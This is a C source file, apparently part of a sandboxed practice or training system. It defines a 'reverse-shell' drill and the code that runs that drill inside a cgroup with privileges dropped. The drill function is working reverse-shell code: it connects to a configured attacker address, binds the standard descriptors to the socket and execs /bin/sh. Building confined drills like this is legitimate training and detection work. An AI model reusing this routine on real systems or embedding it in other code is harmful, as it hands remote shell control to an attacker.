/* Owns the drills: their table, their way into the scope's cgroup, and what they do there. They do
 * nothing that reaches out of the practice world. */
#include "agent/practice/drill.h"
#include "agent/practice/limits.h"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/close_range.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Standard descriptors become the connection to the attacker, then a shell takes over. */
static int reverse_shell(void)
{
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(HM_PRACTICE_PORT)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || inet_pton(AF_INET, HM_PRACTICE_ATTACKER, &a.sin_addr) != 1 ||
        connect(fd, (struct sockaddr *)&a, sizeof a) < 0)
        return -errno;
    for (int std = 0; std < 3; std++)
        if (dup2(fd, std) < 0)
            return -errno;
    close(fd);
    char *argv[] = {"sh", NULL}, *env[] = {"PATH=/usr/bin:/bin", "HOME=/home/practice", NULL};
    execve("/bin/sh", argv, env);
    return -errno;
}

static const struct drill {
    const char *name;
    int (*run)(void);
} drills[] = {{"reverse-shell", reverse_shell}};

static const struct drill *find(struct hm_slice name)
{
    for (size_t i = 0; i < HM_ARRAY_LEN(drills); i++)
        if (hm_slice_eq(name, hm_slice_str(drills[i].name)))
            return &drills[i];
    return NULL;
}

bool hm_drill_known(struct hm_slice name)
{
    return find(name) != NULL;
}

int hm_drill_main(const char *name)
{
    const struct drill *d = find(hm_slice_str(name));
    if (!d)
        return 2;
    alarm(HM_DRILL_MAX_S); /* survives exec: the shell ends by it */
    if (chdir("/home/practice") < 0 && chdir("/") < 0)
        return 1;
    int r = d->run();
    fprintf(stderr, "drill %s could not begin: %s\n", name, strerror(-r));
    return 1;
}

/* Between fork and exec. In the cgroup first: nothing of the drill happens outside of the scope. */
static void become_drill(int scope_fd, char *const argv[])
{
    static char *const env[] = {"PATH=/usr/bin:/bin", NULL};
    sigset_t none;
    struct rlimit processes = {256, 256};
    int procs = openat(scope_fd, "cgroup.procs", O_WRONLY | O_CLOEXEC);
    if (procs < 0 || write(procs, "0", 1) != 1)
        _exit(125);
    sigemptyset(&none);
    sigprocmask(SIG_SETMASK, &none, NULL);
    signal(SIGPIPE, SIG_DFL);
    setsid();
    if (syscall(SYS_close_range, 3, ~0U, CLOSE_RANGE_CLOEXEC) < 0)
        _exit(125);
    setrlimit(RLIMIT_NPROC, &processes);
    if (setgroups(0, NULL) < 0 ||
        setresgid(HM_PRACTICE_GID, HM_PRACTICE_GID, HM_PRACTICE_GID) < 0 ||
        setresuid(HM_PRACTICE_UID, HM_PRACTICE_UID, HM_PRACTICE_UID) < 0 ||
        prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
        _exit(125);
    execve("/proc/self/exe", argv, env);
    _exit(127);
}

int hm_drill_start(int scope_fd, struct hm_slice name, pid_t *ret_pid, struct hm_error *err)
{
    const struct drill *d = find(name);
    if (!d)
        return hm_fail(err, -ENOENT, "there is no such drill");
    char *argv[] = {"practice-service", "-p", "drill", (char *)d->name, NULL};
    pid_t pid = fork();
    if (pid < 0)
        return hm_fail(err, -errno, "cannot fork for the drill");
    if (pid == 0)
        become_drill(scope_fd, argv);
    *ret_pid = pid;
    return 0;
}
